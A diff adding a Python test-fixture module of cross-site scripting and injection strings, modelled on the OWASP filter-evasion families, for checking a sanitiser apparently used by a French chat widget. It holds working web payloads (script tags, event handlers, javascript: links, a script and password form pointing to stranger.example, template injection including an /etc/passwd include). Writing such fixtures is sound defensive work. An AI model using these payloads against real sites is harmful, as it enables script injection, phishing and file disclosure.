@@ -1,0 +1,111 @@
+"""Texts that try to become code: markup, links, templates, encodings, and odd characters.
+
+Most follow the families of the OWASP list of filter evasions. Each that could run sets
+`window.harmed`, so that a test can see whether one did.
+"""
+
+from __future__ import annotations
+
+HARM = "window.harmed=1"
+MARKUP = [
+    f"<script>{HARM}</script>",
+    f"<ScRiPt>{HARM}</sCrIpT>",
+    f"<script type=module>{HARM}</script>",
+    "<script src=https://stranger.example/x.js></script>",
+    f"<script/x>{HARM}</script/x>",
+    f"<<script>{HARM};//<</script>",
+    f"<scr<script>ipt>{HARM}</scr</script>ipt>",
+    f"</textarea><script>{HARM}</script>",
+    f"</script><script>{HARM}</script>",
+    f"</style><script>{HARM}</script>",
+    f"</title><script>{HARM}</script>",
+    f"--><script>{HARM}</script><!--",
+    f"]]><script>{HARM}</script>",
+    f"<noscript><p title='</noscript><img src=x onerror={HARM}>'>",
+    f"<template><script>{HARM}</script></template>",
+    "<iframe srcdoc='<script>parent.harmed=1</script>'></iframe>",
+    f"<iframe src='javascript:parent.{HARM}'></iframe>",
+    f"<object data='javascript:{HARM}'></object>",
+    f"<embed src='javascript:{HARM}'>",
+    "<base href='https://stranger.example/'>",
+    "<meta http-equiv=refresh content='0;url=https://stranger.example/'>",
+    "<link rel=stylesheet href='https://stranger.example/x.css'>",
+    "<style>*{display:none}</style>",
+    "<style>@import 'https://stranger.example/x.css';</style>",
+    f"<form action='javascript:{HARM}'><button>ici</button></form>",
+    "<form action='https://stranger.example/'><input name=password></form>",
+    "<declic-chat></declic-chat>",
+    "<h1>Votre session a expiré</h1>",
+]
+HANDLERS = [
+    f"<img src=x onerror='{HARM}'>",
+    f"<img src=x onerror={HARM}//",
+    f"<img/src=x/onerror={HARM}>",
+    f"<IMG SRC=x OnErRoR={HARM}>",
+    f"<img src='x'onerror='{HARM}'>",
+    f"<svg onload='{HARM}'></svg>",
+    f"<svg/onload={HARM}>",
+    f'"><svg/onload={HARM}>',
+    f"'><img src=x onerror={HARM}>",
+    f'" onmouseover="{HARM}" x="',
+    f"' autofocus onfocus='{HARM}",
+    f"` onmouseover=`{HARM}",
+    f"<svg><animate onbegin={HARM} attributeName=x></svg>",
+    f"<svg><script>{HARM}</script></svg>",
+    f"<svg><a href='javascript:{HARM}'><text x=20 y=20>ici</text></a></svg>",
+    f"<math><mtext><img src=x onerror={HARM}></mtext></math>",
+    f"<details open ontoggle={HARM}>",
+    f"<video><source onerror={HARM}></video>",
+    f"<audio src=x onerror={HARM}>",
+    f"<input autofocus onfocus={HARM}>",
+    f"<select autofocus onfocus={HARM}>",
+    f"<marquee onstart={HARM}>ici</marquee>",
+    f"<body onload={HARM}>",
+    f"<div style='animation-name:x' onanimationstart={HARM}>",
+    f"<button popovertarget=x>ici</button><p popover id=x onbeforetoggle={HARM}>",
+]
+LINKS = [
+    f"<a href='javascript:{HARM}'>ici</a>",
+    f"javascript:{HARM}",
+    f"JaVaScRiPt:{HARM}",
+    f"java\tscript:{HARM}",
+    f"java\nscript:{HARM}",
+    f" javascript:{HARM}",
+    f"javascript://francetravail.fr/%0a{HARM}",
+    f"data:text/html,<script>{HARM}</script>",
+    f"vbscript:{HARM}",
+    "https://francetravail.fr@stranger.example/",
+    "https:\\\\stranger.example/",
+    "//stranger.example/",
+    "http://stranger.example/",
+    f"blob:{HARM}",
+    "/pictures/../static/declic-chat.js",
+]
+TEMPLATES = [
+    f"{{{{constructor.constructor('{HARM}')()}}}}",
+    f"${{{HARM}}}",
+    f"#{{{HARM}}}",
+    f"<%= {HARM} %>",
+    "{% include '/etc/passwd' %}",
+    "{{ config.__class__ }}",
+    "{ville}",
+    "%s %(name)s %n",
+    "__proto__",
+    "constructor",
+    "toString",
+]
+CHARACTERS = [
+    "&lt;b&gt; &amp; &#x3C;script&#x3E;",
+    "\\u003cscript\\u003e",
+    "%3Cscript%3E",
+    "＜script＞window.harmed=1＜/script＞",
+    "<b>gras</b> & 'guillemets' \"doubles\" `inverses`",
+    "=1+1",
+]
+FAMILIES = {
+    "markup": MARKUP,
+    "handlers": HANDLERS,
+    "links": LINKS,
+    "templates": TEMPLATES,
+    "characters": CHARACTERS,
+}
